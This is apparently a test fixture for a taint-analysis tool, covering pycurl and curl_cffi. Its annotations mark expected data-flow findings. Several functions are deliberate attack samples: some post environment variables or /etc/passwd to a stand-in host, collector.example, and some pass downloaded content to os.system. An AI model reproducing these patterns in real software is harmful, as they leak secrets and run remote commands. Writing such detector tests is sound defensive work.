"""libcurl through pycurl: a handle carries options until it performs."""
import io
import os

import pycurl
import requests
from curl_cffi import requests as curl_requests

U = "https://collector.example/u"


def post_fields():
    c = pycurl.Curl()
    c.setopt(c.URL, "https://curl.collector.example/u")
    c.setopt(pycurl.POSTFIELDS, os.getenv("T"))  #~ source(ENVIRONMENT) f1
    c.perform()  #~ sink(egress.http) f1, finding(traced) f1, capability(NETWORK), endpoint("https://curl.collector.example/u")


def read_file():
    c = pycurl.Curl()
    c.setopt(c.READDATA, open("/etc/passwd", "rb"))  #~ source(FILE) f2
    c.perform()  #~ sink(egress.http) f2, finding(traced) f2


def written():
    target = io.BytesIO()
    c = pycurl.Curl()
    c.setopt(c.WRITEDATA, target)
    c.perform()  #~ source(NETWORK) f3
    os.system(target.getvalue())  #~ sink(exec.command) f3, finding(traced) f3


def run_chunk(chunk):
    os.system(chunk)  #~ sink(exec.command) fwrite, finding(traced) fwrite


def written_by_callback():
    c = pycurl.Curl()
    c.setopt(c.WRITEFUNCTION, run_chunk)
    c.perform()  #~ source(NETWORK) fwrite


def next_chunk(size):
    return os.getenv("T")  #~ source(ENVIRONMENT) fread


def read_by_callback():
    c = pycurl.Curl()
    c.setopt(c.READFUNCTION, next_chunk)
    c.perform()  #~ sink(egress.http) fread, finding(traced) fread


def constant_chunk(size):
    return b"ping"


def other_option():
    c = pycurl.Curl()  #~ ok
    c.setopt(c.CAINFO, os.getenv("T"))  #~ ok
    c.setopt(c.READFUNCTION, constant_chunk)  #~ ok
    c.perform()  #~ ok
    requests.post(U, data={"ok": c.getinfo(c.RESPONSE_CODE) == 200})  #~ ok


def informed():
    c = pycurl.Curl()
    os.system(c.getinfo(c.CONTENT_TYPE))  #~ source(NETWORK) f10, sink(exec.command) f10, finding(traced) f10


def many():
    c = pycurl.Curl()
    c.setopt(c.POSTFIELDS, os.getenv("T"))  #~ source(ENVIRONMENT) f11
    m = pycurl.CurlMulti()
    m.add_handle(c)
    m.perform()  #~ sink(egress.http) f11, finding(traced) f11, capability(NETWORK)


def many_constant():
    c = pycurl.Curl()
    c.setopt(c.POSTFIELDS, "ping")  #~ ok
    m = pycurl.CurlMulti()
    m.add_handle(c)  #~ ok
    m.perform()  #~ ok


def imitated():
    curl_requests.post(U, data=os.getenv("T"))  #~ source(ENVIRONMENT) f13, sink(egress.http) f13, finding(traced) f13, capability(NETWORK)
    curl_requests.post(U, data="ping")  #~ ok
